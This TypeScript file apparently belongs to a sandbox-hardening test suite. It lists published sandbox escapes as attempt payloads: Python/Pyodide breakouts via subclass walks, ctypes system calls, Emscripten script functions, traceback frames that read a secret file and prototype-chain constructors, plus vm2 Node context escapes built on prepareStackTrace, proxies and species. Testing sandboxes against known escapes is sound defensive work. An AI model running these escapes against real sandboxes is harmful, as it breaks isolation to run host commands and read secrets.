// cspell:ignore cellbreak CDLL listdir emscripten getattr subclasshook
import { javaScript } from './attempts-on-bridge.ts';
import type { RealmAttempt } from './realm-attempt.ts';
import { attemptAll, shellCommand, text, type EscapeAttempt } from './escape-attempt.ts';

/** The published escapes of 2025 and 2026 from sandboxes that use Pyodide or Python, as their reports describe them. */
export const PUBLISHED_ESCAPES: readonly EscapeAttempt[] = [
  {
    name: 'Grist, "Cellbreak": from the class hierarchy over ctypes to the script functions of Emscripten',
    code: (targets) =>
      [
        'kinds = object.__subclasses__()',
        'for kind in kinds: kinds += [more for more in type.__subclasses__(kind) if more not in kinds]',
        'spaces = [kind.__init__.__globals__ for kind in kinds if hasattr(kind.__init__, "__globals__")]',
        'system = next(space["sys"] for space in spaces if "sys" in space)',
        'load = next(space["__builtins__"]["__import__"] for space in spaces if "__builtins__" in space)',
        'library = load("ctypes").CDLL(None)',
        `script = ${text(javaScript(targets))}.encode()`,
        'for name in ("emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string"):',
        '    attempt(lambda: getattr(library, name)(script))',
        `attempt(lambda: library.system(${text(shellCommand(targets))}.encode()))`,
        'attempt(lambda: system.modules["os"].listdir("/root"))',
      ].join('\n'),
  },
  {
    name: 'n8n, CVE-2025-68668: code evaluated by Pyodide’s own module, beside the filtered one',
    code: (targets) =>
      [
        'import importlib',
        'base = importlib.import_module("_pyodide._base")',
        'for code in (',
        `    ${text(`import os; os.system(${text(shellCommand(targets))})`)},`,
        `    ${text(`import subprocess; subprocess.run(${text(shellCommand(targets))}, shell=True)`)},`,
        `    ${text(`import js; js.eval(${text(javaScript(targets))})`)},`,
        `    ${text(`import ctypes; ctypes.CDLL(None).system(${text(shellCommand(targets))}.encode())`)},`,
        '):',
        '    attempt(lambda: base.eval_code(code, {}))',
        '    attempt(lambda: base.CodeRunner(code).compile().run({}))',
      ].join('\n'),
  },
  {
    name: 'n8n, CVE-2026-0863: an object from an exception, formatted as text',
    code: (targets) =>
      [
        'class Seen(Exception): pass',
        'def formatted(path, **values): return ("{" + path + "}").format(**values)',
        'try: object().missing',
        'except AttributeError as problem: kept = problem',
        attemptAll(
          'formatted("e.obj.__class__.__base__.__subclasses__", e=kept)',
          'formatted("e.__traceback__.tb_frame.f_builtins[__import__]", e=kept)',
          'formatted("e.__traceback__.tb_frame.f_back.f_globals", e=kept)',
        ),
        'frame = kept.__traceback__.tb_frame',
        'while frame:',
        '    load = frame.f_builtins["__import__"]',
        `    attempt(lambda: load("os").system(${text(shellCommand(targets))}))`,
        `    attempt(lambda: frame.f_builtins["open"](${text(targets.secretFile)}).read())`,
        '    frame = frame.f_back',
      ].join('\n'),
  },
  {
    name: 'Cohere Terrarium, CVE-2026-5752: the prototype chain of an object that the host passed in',
    code: (targets) =>
      [
        'import js, pyodide_js',
        `script = ${text(`return ${javaScript(targets)}`)}`,
        'given = [js, js.opened, js.opened.host, js.shell, js.shell.console, pyodide_js, pyodide_js._api]',
        'given += [getattr(js.opened.host, name) for name in ("now", "log", "print", "decode")]',
        'for thing in given:',
        '    attempt(lambda: thing.constructor.constructor(script)())',
        '    attempt(lambda: thing.__proto__.constructor.constructor(script)())',
        '    attempt(lambda: js.Object.getPrototypeOf(thing).constructor.constructor(script)())',
        '    report_foreign([thing])',
        '    for name in ("process", "require", "globalThis", "mainModule"):',
        '        attempt(lambda: report_foreign([getattr(thing, name)]))',
      ].join('\n'),
  },
];

/** Published escapes of JavaScript from Node's contexts, in the form that fits this one. */
export const PUBLISHED_ESCAPES_OF_CONTEXTS: readonly RealmAttempt[] = [
  {
    name: 'vm2, CVE-2022-36067: prepareStackTrace of a replaced Error',
    body: `const own = globalThis.Error; globalThis.Error = {}; const seen = []; globalThis.Error.prepareStackTrace = (error, sites) => { seen.push(error, sites, ...sites.map((site) => site.getThis())); return ''; }; try { null.x; } catch (error) { reach(error.stack); } globalThis.Error = own; return seen;`,
    spoils: true,
  },
  {
    name: 'vm2, CVE-2023-29017: prepareStackTrace of an error in an async function',
    body: `const seen = []; Error.prepareStackTrace = (error, sites) => { seen.push(error, sites); for (const site of sites) seen.push(site.getThis(), site.getFunction()); }; (async () => { null.x; })().catch(reach); (async function run() { await run.missing(); })(); delete Error.prepareStackTrace; return seen;`,
    spoils: true,
  },
  {
    name: 'vm2, CVE-2023-29199: an error that is thrown while the host cleans another one',
    body: `const deep = () => { try { deep(); } catch (error) { reach(error); throw { get stack() { return host.now(); }, message: { toString() { return host.log({}); } } }; } }; try { deep(); } catch (error) { reach(error); reach(error.stack); }`,
  },
  {
    name: 'vm2, CVE-2023-30547: a proxy whose getPrototypeOf throws',
    body: `const thrower = new Proxy({}, { getPrototypeOf() { const fill = () => fill(new Error().stack); fill(); } }); try { throw thrower; } catch (error) { try { error instanceof Error; } catch (inner) { reach(inner); } } for (const key of Object.keys(host)) { try { reach(host[key](thrower, thrower)); } catch (error) { reach(error); } }`,
  },
  {
    name: 'vm2, CVE-2023-32314: a proxy that the host inspects',
    body: `const seen = []; const traps = { get(target, key, receiver) { seen.push(target, receiver); return undefined; }, apply(target, self, values) { seen.push(self, values); }, getPrototypeOf: () => null }; const error = new Error('x'); error.name = { toString: new Proxy(() => '', traps) }; Promise.reject(error); reach(shell.console.error(error)); return seen;`,
  },
  {
    name: 'vm2, CVE-2023-37466: a species that captures the host’s rejection',
    body: `const seen = []; async function refused() { throw host.now; } const promise = refused(); promise.constructor = { [Symbol.species]: class { constructor(run) { run((value) => seen.push(value), (value) => seen.push(value)); } } }; promise.then(reach, reach); seen.push(promise.then(), promise.catch(reach), promise.finally(reach)); return seen;`,
  },
  {
    name: 'vm2, CVE-2023-37903: a custom inspection that gets the host’s function',
    body: `const seen = []; const custom = Symbol.for('nodejs.util.inspect.custom'); const made = { [custom]: (...values) => { seen.push(...values); return ''; } }; shell.console.log(made); host.log(made); Promise.reject(made); const error = new Error('x'); error[custom] = made[custom]; Promise.reject(error); for (const key of Object.keys(host)) host[key](made); return seen;`,
  },
];
